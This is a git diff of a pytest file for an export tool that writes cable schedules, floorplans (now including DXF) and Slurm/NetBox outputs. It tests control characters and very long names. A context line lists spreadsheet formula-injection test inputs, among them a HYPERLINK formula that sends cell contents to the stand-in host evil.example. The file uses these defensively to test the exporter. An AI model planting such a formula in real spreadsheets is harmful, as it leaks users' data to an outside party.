@@ -9,6 +9,7 @@ import re
 import time
 import xml.etree.ElementTree as ET
 
+import ezdxf
 import pytest
 from openpyxl import load_workbook
 from pypdf import PdfReader
@@ -25,6 +26,9 @@ from .conftest import cabled_plan
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR"]
 LONG = 10_000
+#: Exports for systems with rules for names (Slurm host names, NetBox's name lengths): a name
+#: they cannot take stops the export with the reason (ValueError: the CLI's exit 1), nothing written.
+REFUSE_NAMES = {"slurm", "netbox"}
 
 
 def first_node(doc: Document):
@@ -130,10 +134,22 @@ def test_control_characters_do_not_break_xlsx_svg_csv_or_pdf(tmp_path):
     doc.meta.project = "P\x03roject"
     cleaned = clean_text(CONTROL)
     for kind, spec in EXPORT_KINDS.items():
-        path = tmp_path / f"out{spec.suffix}"
-        export_to(doc, kind, path, ExportOptions())
+        path = tmp_path / f"out-{kind}{spec.suffix}"
+        try:
+            export_to(doc, kind, path, ExportOptions())
+        except ValueError:  # Slurm takes no control character in a host name
+            assert kind in REFUSE_NAMES and not path.exists()
+            continue
+        if spec.folder:
+            files = " ".join(p.read_text(encoding="utf-8") for p in path.rglob("*") if p.is_file())
+            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", files)
+            continue
         data = path.read_bytes()
-        if kind == "cables-xlsx":
+        if kind == "floorplan-dxf":
+            drawing = ezdxf.readfile(path)
+            texts = " ".join(e.dxf.text for e in drawing.modelspace().query("TEXT"))
+            assert not any(ch in texts for ch in "\x02\x1f\x03")
+        elif kind == "cables-xlsx":
             sheet = load_workbook(path).active
             assert cleaned in {cell.value for row in sheet.iter_rows() for cell in row}
         elif kind == "floorplan-svg":
@@ -168,8 +184,16 @@ def test_ten_thousand_character_names_export_quickly_and_read_back(kind, tmp_pat
     options = ExportOptions(revision="V" * LONG, author="A" * LONG, file_name="F" * LONG)
     path = tmp_path / f"long{EXPORT_KINDS[kind].suffix}"
     started = time.perf_counter()
+    if kind in REFUSE_NAMES:  # a 10,000-character host name: refused with the reason, quickly
+        with pytest.raises(ValueError):
+            export_to(doc, kind, path, options)
+        assert time.perf_counter() - started < 30 and not path.exists()
+        return
     export_to(doc, kind, path, options)
     assert time.perf_counter() - started < 30
+    if kind == "floorplan-dxf":
+        assert all(len(e.dxf.text) <= 300 for e in ezdxf.readfile(path).modelspace().query("TEXT"))
+        return
     data = path.read_bytes()
     if kind.endswith("pdf"):
         pages = PdfReader(path).pages
@@ -178,7 +202,7 @@ def test_ten_thousand_character_names_export_quickly_and_read_back(kind, tmp_pat
         assert max(len(word) for word in text.split()) < 600  # no 10k-character run on the paper
         if kind == "cabling-pdf":
             assert "LLLLLLLLLL" in text and "route:" in text
-    elif kind == "cables-csv":
+    elif kind in ("cables-csv", "tick-sheet-csv"):
         rows = csv_rows(data)
         assert "L" * LONG in {row[0] for row in rows}  # the schedule keeps the full text
     elif kind == "cables-xlsx":
